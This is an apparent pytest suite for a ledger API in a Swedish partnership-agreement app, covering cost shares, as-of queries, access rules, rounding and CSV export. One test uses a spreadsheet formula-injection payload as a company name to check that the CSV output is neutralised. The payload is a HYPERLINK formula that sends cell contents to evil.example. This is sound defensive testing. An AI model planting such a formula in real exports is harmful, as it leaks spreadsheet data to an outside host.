"""GET /agreements/{id}/ledger: API.md's shape, numbers computed by hand, as of any time.

The agreement: Region Västerbotten 45.6 %, Umeå kommun 30 %, a company 24.4 %, in SEK.
First round (t1): costs 410 000.00; shares of costs 186 960.00 / 123 000.00 / 100 040.00.
Second round: costs 645 000.00; shares 294 120.00 / 193 500.00 / 157 380.00.
"""

from __future__ import annotations

import csv
import io
from dataclasses import dataclass
from datetime import datetime
from uuid import UUID

import pytest
from flask import Flask

from samverkan.application.service import Samverkan
from samverkan.domain.base import Actor
from samverkan.web.plugins import exporters, plugins_of, projections_of
from tests.api.callers import Caller, make_caller
from tests.integration.helpers import start_team

PROBLEM = "application/problem+json"


@dataclass(frozen=True)
class Story:
    partnership_id: UUID
    agreement_id: UUID
    region: Actor
    municipality: Actor
    company: Actor
    risk_one: UUID
    t1: datetime


def record(flask_app: Flask, service: Samverkan) -> Story:
    team = start_team(service)
    region, municipality, pid = team.region, team.municipality, team.partnership_id
    company = team.join(service, "Vitalsensor AB", "partner", "company")
    shares = {
        str(region.organisation_id): "45.6",
        str(municipality.organisation_id): "30",
        str(company.organisation_id): "24.4",
    }
    agreement = service.make_agreement(region, pid, "Delad risk", "SEK", shares)
    aid = agreement.id
    r, m, c = region.organisation_id, municipality.organisation_id, company.organisation_id
    service.make_commitment(region, aid, r, "money", "600000.00", "SEK", "Utvecklingstid")
    service.make_commitment(region, aid, r, "staff_hours", "1500", "timmar", "")
    service.make_commitment(company, aid, c, "in_kind", "150000", "SEK", "Licenser")
    service.record_contribution(region, aid, r, "money", "420000.00", "SEK", "")
    service.record_contribution(municipality, aid, m, "staff_hours", "120.5", "timmar", "")
    service.record_contribution(company, aid, c, "money", "50000", "SEK", "")
    service.incur_cost(region, aid, "410000.00", "Ersättare")
    service.realise_benefit(region, aid, "region", "310000.00", "Frigjord tid")
    _, risk_one = service.register_risk(region, aid, "Integrationen", c, 3, 4)
    t1 = service.get(type(agreement), aid).modified_on
    # The company leaves; the ledger goes on without it reading further.
    service.remove_member(region, pid, c, "Avslutat uppdrag")
    service.incur_cost(region, aid, "235000.00", "Integration")
    service.record_contribution(municipality, aid, m, "money", "100000.00", "SEK", "")
    service.realise_benefit(region, aid, "residents", "1000", "Färre resor")
    service.change_risk_status(region, aid, risk_one, "materialised", "Hände")
    _, risk_two = service.register_risk(region, aid, "Tiden räcker inte", m, 2, 2)
    service.change_risk_status(region, aid, risk_two, "mitigated", "Avsatt tid")
    projections_of(flask_app).catch_up()
    return Story(pid, aid, region, municipality, company, risk_one, t1)


@pytest.fixture
def story(flask_app: Flask, service: Samverkan) -> Story:
    return record(flask_app, service)


def party(body: dict, organisation_id: UUID) -> dict:
    return next(p for p in body["parties"] if p["organisation_id"] == str(organisation_id))


def kinds(money: str, staff_hours: str, in_kind: str) -> dict[str, str]:
    return {"money": money, "staff_hours": staff_hours, "in_kind": in_kind}


def test_the_ledger_now_has_api_md_shape_and_hand_computed_numbers(
    admin: Caller, story: Story
) -> None:
    answer = admin.get(f"/api/v1/agreements/{story.agreement_id}/ledger")
    assert answer.status_code == 200, answer.json
    body = answer.json
    assert {
        "agreement_id", "version", "currency", "as_of", "costs_total", "parties", "benefits",
        "risks",
    } <= set(body)  # fmt: skip
    assert body["agreement_id"] == str(story.agreement_id)
    assert body["version"] == 16 and answer.headers["ETag"] == '"16"'
    assert body["currency"] == "SEK" and body["costs_total"] == "645000.00"
    assert [p["organisation_id"] for p in body["parties"]] == [
        str(story.region.organisation_id),
        str(story.municipality.organisation_id),
        str(story.company.organisation_id),
    ]
    assert party(body, story.region.organisation_id) == {
        "organisation_id": str(story.region.organisation_id),
        "share": "45.6",
        "committed": kinds("600000.00", "1500", "0.00"),
        "contributed": kinds("420000.00", "0", "0.00"),
        "share_of_costs": "294120.00",
        "balance": "125880.00",
    }
    municipality = party(body, story.municipality.organisation_id)
    assert municipality["contributed"] == kinds("100000.00", "120.5", "0.00")
    assert municipality["share_of_costs"] == "193500.00"
    assert municipality["balance"] == "-93500.00"
    company = party(body, story.company.organisation_id)
    assert company["committed"] == kinds("0.00", "0", "150000.00")
    assert (company["share_of_costs"], company["balance"]) == ("157380.00", "-107380.00")
    assert body["benefits"] == [
        {"beneficiary": "region", "amount": "310000.00"},
        {"beneficiary": "companies", "amount": "0.00"},
        {"beneficiary": "residents", "amount": "1000.00"},
    ]
    risks = {r["owner_id"]: r for r in body["risks"]}
    assert risks[str(story.company.organisation_id)] == {
        "id": str(story.risk_one),
        "owner_id": str(story.company.organisation_id),
        "status": "materialised",
        "likelihood": 3,
        "impact": 4,
    }
    assert risks[str(story.municipality.organisation_id)]["status"] == "mitigated"
    totals = body["totals"]
    assert totals["share"] == "100.0" and totals["share_of_costs"] == "645000.00"
    assert totals["contributed"] == kinds("570000.00", "120.5", "0.00")
    assert totals["balance"] == "-75000.00"  # 570 000 contributed − 645 000 costs
    assert totals["benefits"] == "311000.00"
    assert totals["risks"] == {"open": 0, "mitigated": 1, "materialised": 1, "closed": 0}


def test_as_of_a_recording_time_and_the_same_version(admin: Caller, story: Story) -> None:
    path = f"/api/v1/agreements/{story.agreement_id}/ledger"
    then = admin.get(path, query_string={"as_of": story.t1.isoformat()})
    assert then.status_code == 200, then.json
    body = then.json
    assert body["version"] == 10 and body["costs_total"] == "410000.00"
    assert datetime.fromisoformat(body["as_of"]) == story.t1
    region = party(body, story.region.organisation_id)
    assert (region["share_of_costs"], region["balance"]) == ("186960.00", "233040.00")
    municipality = party(body, story.municipality.organisation_id)
    assert municipality["contributed"] == kinds("0.00", "120.5", "0.00")
    assert (municipality["share_of_costs"], municipality["balance"]) == (
        "123000.00",
        "-123000.00",
    )
    company = party(body, story.company.organisation_id)
    assert (company["share_of_costs"], company["balance"]) == ("100040.00", "-50040.00")
    assert body["benefits"][2] == {"beneficiary": "residents", "amount": "0.00"}
    assert [(r["id"], r["status"]) for r in body["risks"]] == [(str(story.risk_one), "open")]
    by_version = admin.get(path, query_string={"version": 10}).json
    assert {**by_version, "as_of": None} == {**body, "as_of": None}


def test_before_the_agreement_existed_and_bad_time_travel(admin: Caller, story: Story) -> None:
    path = f"/api/v1/agreements/{story.agreement_id}/ledger"
    before = admin.get(path, query_string={"as_of": "2000-01-01"})
    assert before.status_code == 404 and before.mimetype == PROBLEM
    assert admin.get(path, query_string={"version": 17}).status_code == 404
    both = admin.get(path, query_string={"version": 3, "as_of": "2030-01-01"})
    assert both.status_code == 400 and both.mimetype == PROBLEM
    bad = admin.get(path, query_string={"as_of": "yesterday"})
    assert bad.status_code == 422 and "as_of" in bad.json["errors"]
    today = admin.get(path, query_string={"as_of": "2999-12-31"})
    assert today.status_code == 200 and today.json["version"] == 16


def test_invisible_to_outsiders_and_a_former_member_reads_up_to_its_leaving(
    flask_app: Flask, service: Samverkan, admin: Caller, story: Story
) -> None:
    path = f"/api/v1/agreements/{story.agreement_id}/ledger"
    outsider_org = service.register_organisation(story.region, "Annan region", "region", "SE")
    outsider = make_caller(flask_app, outsider_org.id, "member", "annan@example.se")
    hidden = outsider.get(path)
    assert hidden.status_code == 404 and hidden.mimetype == PROBLEM
    unknown = admin.get(f"/api/v1/agreements/{UUID(int=7)}/ledger")
    assert unknown.status_code == 404
    assert admin.client.get(path).status_code == 401
    former = make_caller(flask_app, story.company.organisation_id, "member", "bolag@example.se")
    seen = former.get(path)
    assert seen.status_code == 200, seen.json
    assert seen.json["version"] == 10 and seen.json["costs_total"] == "410000.00"
    member = make_caller(flask_app, story.municipality.organisation_id, "auditor", "a@umea.se")
    assert member.get(path).json["version"] == 16


def test_rounding_to_the_currency_minor_unit(
    flask_app: Flask, service: Samverkan, admin: Caller
) -> None:
    team = start_team(service)
    r, m = team.region.organisation_id, team.municipality.organisation_id
    agreement = service.make_agreement(
        team.region, team.partnership_id, "Hälften var", "NOK", {str(r): "50", str(m): "50"}
    )
    service.incur_cost(team.region, agreement.id, "0.01", "Ett öre")
    projections_of(flask_app).catch_up()
    body = admin.get(f"/api/v1/agreements/{agreement.id}/ledger").json
    # 50 % of 0.01 is 0.005: half away from zero gives 0.01 to each, 0.02 in all.
    assert [p["share_of_costs"] for p in body["parties"]] == ["0.01", "0.01"]
    assert [p["balance"] for p in body["parties"]] == ["-0.01", "-0.01"]
    assert body["totals"]["share_of_costs"] == "0.02" and body["costs_total"] == "0.01"


def test_csv_download_and_the_exporter(
    flask_app: Flask, service: Samverkan, admin: Caller, story: Story
) -> None:
    path = f"/api/v1/agreements/{story.agreement_id}/ledger.csv"
    answer = admin.get(path, query_string={"as_of": story.t1.isoformat()})
    assert answer.status_code == 200 and answer.mimetype == "text/csv"
    rows = list(csv.DictReader(io.StringIO(answer.get_data(as_text=True))))
    assert [row["organisation"] for row in rows] == [
        "Region Västerbotten", "Umeå kommun", "Vitalsensor AB", "total",
    ]  # fmt: skip
    assert [row["balance"] for row in rows] == ["233040.00", "-123000.00", "-50040.00", "60000.00"]
    assert rows[0]["committed_staff_hours"] == "1500" and rows[0]["version"] == "10"
    exporter = exporters(plugins_of(flask_app), service)["ledger"]
    assert exporter.media_type == "text/csv"
    now = list(csv.DictReader(io.StringIO(str(exporter.render(service, story.partnership_id)))))
    assert [row["share_of_costs"] for row in now] == [
        "294120.00", "193500.00", "157380.00", "645000.00",
    ]  # fmt: skip
    outsider_org = service.register_organisation(story.region, "Annan", "region", "SE")
    outsider = make_caller(flask_app, outsider_org.id, "member", "x@annan.se")
    assert outsider.get(path).status_code == 404


def test_openapi_describes_the_ledger(admin: Caller) -> None:
    paths = admin.get("/api/v1/openapi.json").json["paths"]
    assert "get" in paths["/api/v1/agreements/{agreement_id}/ledger"]
    assert "/api/v1/agreements/{agreement_id}/ledger.csv" in paths


def test_rebuilding_the_projection_gives_the_same_ledger(
    flask_app: Flask, admin: Caller, story: Story
) -> None:
    path = f"/api/v1/agreements/{story.agreement_id}/ledger"
    query = {"as_of": story.t1.isoformat()}
    before = (admin.get(path).json, admin.get(path, query_string=query).json)
    assert projections_of(flask_app).rebuild("ledger") > 0
    after = (admin.get(path).json, admin.get(path, query_string=query).json)
    assert {**after[0], "as_of": None} == {**before[0], "as_of": None}
    assert after[1] == before[1]


def test_the_ledger_page_and_panel_in_swedish(admin: Caller, story: Story) -> None:
    with admin.client.session_transaction() as session:
        session["locale"] = "sv"
    page = admin.get(f"/partnerships/{story.partnership_id}/ledger")
    assert page.status_code == 200, page.get_data(as_text=True)
    html = page.get_data(as_text=True)
    assert "Riskfördelning" in html and "Avtalad andel" in html and "Saldo" in html
    assert "294\xa0120,00\xa0kr" in html and "-107\xa0380,00\xa0kr" in html
    then = admin.get(
        f"/partnerships/{story.partnership_id}/ledger", query_string={"as_of": "2000-01-01"}
    )
    assert "Partnerskapet har inget avtal om delad risk." in then.get_data(as_text=True)
    bad = admin.get(f"/partnerships/{story.partnership_id}/ledger", query_string={"as_of": "x"})
    assert bad.status_code == 200 and 'aria-invalid="true"' in bad.get_data(as_text=True)
    partnership = admin.get(f"/partnerships/{story.partnership_id}").get_data(as_text=True)
    assert "Riskfördelning" in partnership and "125\xa0880,00\xa0kr" in partnership


def test_the_csv_neutralises_formulas_and_keeps_negative_amounts_numbers(
    admin: Caller, service: Samverkan, flask_app: Flask
) -> None:
    """A name a spreadsheet would run is written as text; a negative balance stays a number."""
    team = start_team(service)
    evil = '=HYPERLINK("http://evil.example/?"&A1,"Klicka")'
    company = team.join(service, evil, "partner", "company")
    shares = {str(team.region.organisation_id): "50", str(company.organisation_id): "50"}
    aid = service.make_agreement(team.region, team.partnership_id, "@SUM(1)", "SEK", shares).id
    service.incur_cost(team.region, aid, "1000.00", "Lokal")
    projections_of(flask_app).catch_up()
    answer = admin.get(f"/api/v1/agreements/{aid}/ledger.csv")
    rows = list(csv.DictReader(io.StringIO(answer.get_data(as_text=True))))
    theirs = next(row for row in rows if row["organisation_id"] == str(company.organisation_id))
    assert theirs["organisation"] == "'" + evil
    assert theirs["agreement"] == "'@SUM(1)"
    assert theirs["balance"] == "-500.00"
    assert not any(cell.startswith(("=", "@")) for row in rows for cell in row.values())
